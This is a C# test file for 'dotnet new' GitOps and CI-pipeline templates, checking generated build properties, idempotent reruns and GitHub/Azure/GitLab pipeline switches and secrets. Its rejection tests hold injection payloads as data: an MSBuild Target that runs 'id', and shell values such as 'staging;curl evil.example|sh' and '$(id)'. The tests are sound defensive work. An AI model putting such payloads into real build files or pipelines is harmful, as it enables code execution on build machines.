using System.Text.Json;
using GitOps.Build.Tests.Infrastructure;

namespace GitOps.Build.Tests.Templates;

/// <summary>
/// `dotnet new gitops` and `dotnet new gitops-ci` from the packed template package: the project's evaluation names
/// exactly the files `gitops-config` made for the same options, a second run changes nothing, and every pipeline parses
/// with the switches it was asked for.
/// </summary>
[TestClass]
[TestCategory("Publish")]
public sealed class ProjectTemplateTests
{
    private const string WebProject = """<Project Sdk="Microsoft.NET.Sdk.Web"><PropertyGroup><TargetFramework>net10.0</TargetFramework></PropertyGroup></Project>""";

    [TestMethod]
    [DataRow("kustomize", "staging,production")]
    [DataRow("helm", "Dev, prod")]
    [DataRow("kustomize", "dev,test,staging,canary,production")]
    public void Gitops_environments_point_at_the_files_gitops_config_makes(string layout, string environments)
    {
        var root = Directory.CreateTempSubdirectory("gitops-template-").FullName;
        try
        {
            var config = Directory.CreateDirectory(Path.Combine(root, "config")).FullName;
            var app = Directory.CreateDirectory(Path.Combine(root, "app")).FullName;
            File.WriteAllText(Path.Combine(app, "App.csproj"), WebProject);
            string[] options = ["--registry", "127.0.0.1:5000/team", "--environments", environments, "--layout", layout];
            var generated = TemplatePackage.New(config, ["gitops-config", "--app", "web,Shop", .. options]);
            Assert.IsTrue(generated.Succeeded, generated.ToString());
            var wire = TemplatePackage.New(app, ["gitops", "--app", "Shop", .. options, "--config-repository", "http://127.0.0.1:8081/git/config.git"]);
            Assert.IsTrue(wire.Succeeded, wire.ToString());

            var evaluation = ProcessRunner.Run("dotnet",
                ["msbuild", "App.csproj", "-getItem:GitOpsEnvironment", "-getItem:PackageReference",
                 "-getProperty:ContainerRegistry", "-getProperty:ContainerRepository", "-getProperty:GitOpsConfigRepository"],
                app, TemplatePackage.DotnetEnvironment());
            Assert.IsTrue(evaluation.Succeeded, evaluation.ToString());
            var json = JsonDocument.Parse(evaluation.StandardOutput).RootElement;
            var properties = json.GetProperty("Properties");
            Assert.AreEqual("127.0.0.1:5000", properties.GetProperty("ContainerRegistry").GetString());
            Assert.AreEqual("team/shop", properties.GetProperty("ContainerRepository").GetString());
            Assert.AreEqual("http://127.0.0.1:8081/git/config.git", properties.GetProperty("GitOpsConfigRepository").GetString());
            var sdk = json.GetProperty("Items").GetProperty("PackageReference").EnumerateArray()
                .Single(item => item.GetProperty("Identity").GetString() == "GitOps.Build.Sdk");
            Assert.AreEqual(SdkPackage.Version, sdk.GetProperty("Version").GetString());

            var items = json.GetProperty("Items").GetProperty("GitOpsEnvironment").EnumerateArray().ToArray();
            CollectionAssert.AreEqual(environments.Split(',', StringSplitOptions.TrimEntries).Select(name => name.ToLowerInvariant()).ToArray(),
                items.Select(item => item.GetProperty("Identity").GetString()).ToArray());
            foreach (var item in items)
            {
                var manifest = item.GetProperty("ManifestPath").GetString()!;
                StringAssert.StartsWith(manifest, "apps/shop/");
                Assert.IsTrue(File.Exists(Path.Combine(config, manifest)), $"{manifest} is not in the generated config repository");
            }
        }
        finally { GitOps.Build.ConfigRepo.TempDirectory.TryDelete(root); }
    }

    [TestMethod]
    public void Gitops_second_run_changes_nothing()
    {
        var app = Directory.CreateTempSubdirectory("gitops-template-").FullName;
        try
        {
            File.WriteAllText(Path.Combine(app, "App.csproj"), WebProject);
            string[] options = ["gitops", "--app", "web", "--registry", "ghcr.io/acme"];
            Assert.IsTrue(TemplatePackage.New(app, options).Succeeded);
            var files = Snapshot(app);

            // Without --force, dotnet new refuses to touch the existing file; with it, it writes the same bytes.
            var again = TemplatePackage.New(app, options);
            Assert.IsFalse(again.Succeeded, "dotnet new overwrote an existing file without --force");
            AssertSame(files, Snapshot(app));
            var forced = TemplatePackage.New(app, [.. options, "--force"]);
            Assert.IsTrue(forced.Succeeded, forced.ToString());
            AssertSame(files, Snapshot(app));
            CollectionAssert.AreEquivalent(new[] { "App.csproj", "Directory.Build.props" }, files.Keys.ToArray());
        }
        finally { GitOps.Build.ConfigRepo.TempDirectory.TryDelete(app); }
    }

    [TestMethod]
    [DataRow("--app", "web,worker", "--app: one name")]
    [DataRow("--environments", "staging,Staging", "--environments: each name must be a DNS label")]
    // Written into Directory.Build.props as they are: markup would add targets to every build, '&' would break the XML.
    [DataRow("--registry", "reg.io</ContainerRegistry></PropertyGroup><Target Name=\"Pwn\" BeforeTargets=\"Build\"><Exec Command=\"id\" /></Target><PropertyGroup><ContainerRegistry>x", "--registry: a registry host")]
    [DataRow("--config-repository", "https://git.example.com/config.git?a=1&b=2", "--config-repository: a URL or path")]
    [DataRow("--config-repository", "https://git.example.com/c.git</GitOpsConfigRepository><GitOpsDryRun>true</GitOpsDryRun><GitOpsConfigRepository>x", "--config-repository: a URL or path")]
    public void Gitops_refuses_what_gitops_config_would_not_make_and_writes_nothing(string option, string value, string message)
    {
        var app = Directory.CreateTempSubdirectory("gitops-template-").FullName;
        try
        {
            File.WriteAllText(Path.Combine(app, "App.csproj"), WebProject);
            string[] arguments = option == "--app" ? ["gitops", option, value] : ["gitops", "--app", "web", option, value];
            var result = TemplatePackage.New(app, arguments);
            Assert.IsFalse(result.Succeeded, result.ToString());
            StringAssert.Contains(result.StandardOutput + result.StandardError, message);
            CollectionAssert.AreEqual(new[] { "App.csproj" }, Directory.GetFileSystemEntries(app).Select(Path.GetFileName).ToArray());
        }
        finally { GitOps.Build.ConfigRepo.TempDirectory.TryDelete(app); }
    }

    [TestMethod]
    [DataRow("github", ".github/workflows/gitops.yml", false, false, false, "argocd")]
    [DataRow("github", ".github/workflows/gitops.yml", true, true, false, "argocd")]
    [DataRow("github", ".github/workflows/gitops.yml", false, false, true, "argocd")]
    [DataRow("github", ".github/workflows/gitops.yml", false, false, true, "flux")]
    [DataRow("azure", "azure-pipelines.yml", true, false, false, "argocd")]
    [DataRow("azure", "azure-pipelines.yml", false, false, true, "argocd")]
    [DataRow("azure", "azure-pipelines.yml", false, false, true, "flux")]
    [DataRow("gitlab", ".gitlab-ci.yml", false, true, false, "argocd")]
    [DataRow("gitlab", ".gitlab-ci.yml", false, false, true, "flux")]
    [DataRow("gitlab", ".gitlab-ci.yml", false, false, true, "argocd")]
    public void Gitops_ci_pipeline_parses_and_passes_the_switches(string ci, string file, bool pullRequest, bool autoMerge, bool waitForDeploy, string agent)
    {
        var repository = Directory.CreateTempSubdirectory("gitops-template-").FullName;
        try
        {
            List<string> options = ["gitops-ci", "--ci", ci, "--publish-project", "src/Web/Web.csproj", "--environment", "Prod"];
            if (pullRequest) options.Add("--pull-request");
            if (autoMerge) options.Add("--auto-merge");
            if (waitForDeploy) options.AddRange(["--wait-for-deploy", "--app", "Web", "--agent", agent, "--wait-timeout", "900"]);
            var result = TemplatePackage.New(repository, [.. options]);
            Assert.IsTrue(result.Succeeded, result.ToString());

            var generated = Directory.EnumerateFiles(repository, "*", SearchOption.AllDirectories)
                .Select(path => Path.GetRelativePath(repository, path)).ToArray();
            CollectionAssert.AreEqual(new[] { file }, generated);
            var pipeline = GeneratedYaml.Documents(Path.Combine(repository, file)).Single();
            var text = File.ReadAllText(Path.Combine(repository, file));
            StringAssert.Contains(text, "src/Web/Web.csproj");
            var (publish, step) = PublishCommand(pipeline, ci);
            StringAssert.Contains(publish, "-p:GitOpsPush=true");
            StringAssert.Contains(publish, "-p:GitOpsEnvironment=prod");
            Assert.AreEqual(pullRequest || autoMerge, publish.Contains("-p:GitOpsPullRequest=true", StringComparison.Ordinal), publish);
            Assert.AreEqual(autoMerge, publish.Contains("-p:GitOpsPullRequestAutoMerge=true", StringComparison.Ordinal), publish);
            Assert.AreEqual(waitForDeploy, publish.Contains("-p:GitOpsWaitForDeploy=true -p:GitOpsWaitTimeout=900", StringComparison.Ordinal), publish);
            Assert.AreEqual(waitForDeploy && agent == "argocd", publish.Contains("-p:GitOpsArgoCdApplications=web-prod", StringComparison.Ordinal), publish);
            Assert.AreEqual(waitForDeploy && agent == "flux", publish.Contains("\"-p:GitOpsDeployStatusContexts=*/web-prod/*\"", StringComparison.Ordinal), publish);

            // The secrets reach the step the CI system's way: GitHub and Azure name them in the step's env, GitLab's
            // CI/CD variables are the job's environment already (the pipeline says which to define).
            var variables = step is null ? [] : ((YamlDotNet.RepresentationModel.YamlMappingNode?)GeneratedYaml.Node(step, "env"))?.Children
                .ToDictionary(pair => pair.Key.ToString(), pair => pair.Value.ToString()) ?? [];
            Assert.AreEqual(waitForDeploy && agent == "argocd", text.Contains("GITOPS_ARGOCD_TOKEN", StringComparison.Ordinal));
            Assert.AreEqual(waitForDeploy && agent == "flux", text.Contains("GITOPS_FORGE_TOKEN", StringComparison.Ordinal));
            if (ci != "gitlab")
            {
                StringAssert.Contains(variables["GITOPS_TOKEN"], ci == "github" ? "secrets.GITOPS_TOKEN" : "$(GitOpsToken)");
                Assert.AreEqual(waitForDeploy && agent == "argocd", variables.ContainsKey("GITOPS_ARGOCD_SERVER") && variables.ContainsKey("GITOPS_ARGOCD_TOKEN"));
                if (waitForDeploy && agent == "argocd")
                    StringAssert.Contains(variables["GITOPS_ARGOCD_TOKEN"], ci == "github" ? "secrets.GITOPS_ARGOCD_TOKEN" : "$(GitOpsArgoCdToken)");
                Assert.AreEqual(waitForDeploy && agent == "flux", variables.ContainsKey("GITOPS_FORGE_TOKEN"));
            }

            var pullRequestOutput = ci switch { "github" => "pull-request-url", "azure" => "GitOpsPullRequestUrl", _ => "GITOPS_PULL_REQUEST_URL" };
            Assert.AreEqual(pullRequest || autoMerge, text.Contains(pullRequestOutput, StringComparison.Ordinal));
            var verdictOutput = ci switch { "github" => "deploy-verdict", "azure" => "GitOpsDeployVerdict", _ => "GITOPS_DEPLOY_VERDICT" };
            Assert.AreEqual(waitForDeploy, text.Contains(verdictOutput, StringComparison.Ordinal));
            var imageOutput = ci switch { "github" => "steps.deploy.outputs.image", "azure" => "$(GitOpsImage)", _ => "$GITOPS_IMAGE" };
            StringAssert.Contains(text, imageOutput);
            Assert.IsFalse(text.Contains("#if", StringComparison.Ordinal) || text.Contains("#endif", StringComparison.Ordinal));
            Assert.IsFalse(text.Contains("APP_NAME", StringComparison.Ordinal) || text.Contains("DEPLOY_ENVIRONMENT", StringComparison.Ordinal) || text.Contains("WAIT_TIMEOUT", StringComparison.Ordinal));
        }
        finally { GitOps.Build.ConfigRepo.TempDirectory.TryDelete(repository); }
    }

    // Under GitOpsPullRequest the SDK waits for the merge, then on the merge commit: the pipeline asks for both.
    [TestMethod]
    [DataRow("github", ".github/workflows/gitops.yml", "--pull-request")]
    [DataRow("github", ".github/workflows/gitops.yml", "--auto-merge")]
    [DataRow("azure", "azure-pipelines.yml", "--pull-request")]
    [DataRow("gitlab", ".gitlab-ci.yml", "--auto-merge")]
    public void Gitops_ci_waits_for_the_deploy_after_a_pull_request(string ci, string file, string option)
    {
        var repository = Directory.CreateTempSubdirectory("gitops-template-").FullName;
        try
        {
            var result = TemplatePackage.New(repository, ["gitops-ci", "--ci", ci, "--publish-project", "src/Web/Web.csproj", "--environment", "Prod",
                option, "--wait-for-deploy", "--app", "Web", "--agent", "argocd", "--wait-timeout", "900"]);
            Assert.IsTrue(result.Succeeded, result.ToString());

            var (publish, _) = PublishCommand(GeneratedYaml.Documents(Path.Combine(repository, file)).Single(), ci);
            StringAssert.Contains(publish, "-p:GitOpsPullRequest=true");
            Assert.AreEqual(option == "--auto-merge", publish.Contains("-p:GitOpsPullRequestAutoMerge=true", StringComparison.Ordinal), publish);
            StringAssert.Contains(publish, "-p:GitOpsWaitForDeploy=true -p:GitOpsWaitTimeout=900");
            StringAssert.Contains(publish, "-p:GitOpsArgoCdApplications=web-prod");
            var text = File.ReadAllText(Path.Combine(repository, file));
            StringAssert.Contains(text, ci switch { "github" => "pull-request-url", "azure" => "GitOpsPullRequestUrl", _ => "GITOPS_PULL_REQUEST_URL" });
            StringAssert.Contains(text, ci switch { "github" => "deploy-verdict", "azure" => "GitOpsDeployVerdict", _ => "GITOPS_DEPLOY_VERDICT" });
        }
        finally { GitOps.Build.ConfigRepo.TempDirectory.TryDelete(repository); }
    }

    [TestMethod]
    [DataRow("--app", "--wait-for-deploy")]
    // Written into the pipeline's shell commands and YAML as they are.
    [DataRow("--environment", "--environment", "staging;curl evil.example|sh")]
    [DataRow("--environment", "--environment", "$(id)")]
    [DataRow("--app", "--wait-for-deploy", "--app", "web;id")]
    [DataRow("--publish-project", "--publish-project", "src/App.csproj #x")]
    [DataRow("--publish-project", "--publish-project", "src/App.csproj\nevil: true")]
    public void Gitops_ci_refuses_a_wait_it_cannot_do_and_writes_nothing(string option, params string[] options)
    {
        var repository = Directory.CreateTempSubdirectory("gitops-template-").FullName;
        try
        {
            var result = TemplatePackage.New(repository, ["gitops-ci", "--ci", "github", .. options]);
            Assert.IsFalse(result.Succeeded, result.ToString());
            StringAssert.Contains(result.StandardOutput + result.StandardError, option);
            Assert.AreEqual(0, Directory.GetFileSystemEntries(repository).Length);
        }
        finally { GitOps.Build.ConfigRepo.TempDirectory.TryDelete(repository); }
    }

    /// <summary>The publish command as the CI system runs it (folded scalars unfolded by the parser), and its step.</summary>
    private static (string Command, YamlDotNet.RepresentationModel.YamlMappingNode? Step) PublishCommand(YamlDotNet.RepresentationModel.YamlMappingNode pipeline, string ci)
    {
        IEnumerable<YamlDotNet.RepresentationModel.YamlNode> steps = ci switch
        {
            "github" => (YamlDotNet.RepresentationModel.YamlSequenceNode)GeneratedYaml.Node(pipeline, "jobs.build.steps")!,
            "azure" => (YamlDotNet.RepresentationModel.YamlSequenceNode)GeneratedYaml.Node(pipeline, "steps")!,
            _ => (YamlDotNet.RepresentationModel.YamlSequenceNode)GeneratedYaml.Node(pipeline, "deploy.script")!,
        };
        var commands = steps.Select(step => step is YamlDotNet.RepresentationModel.YamlMappingNode mapping
            ? (GeneratedYaml.Scalar(mapping, "run") ?? GeneratedYaml.Scalar(mapping, "script"), mapping)
            : (((YamlDotNet.RepresentationModel.YamlScalarNode)step).Value, null));
        return commands.Single(command => command.Item1 is not null && command.Item1.StartsWith("dotnet publish", StringComparison.Ordinal))!;
    }

    private static Dictionary<string, byte[]> Snapshot(string directory) =>
        Directory.EnumerateFiles(directory).ToDictionary(path => Path.GetFileName(path), File.ReadAllBytes);

    private static void AssertSame(Dictionary<string, byte[]> expected, Dictionary<string, byte[]> actual)
    {
        CollectionAssert.AreEquivalent(expected.Keys, actual.Keys);
        foreach (var (name, bytes) in expected) CollectionAssert.AreEqual(bytes, actual[name], name);
    }
}
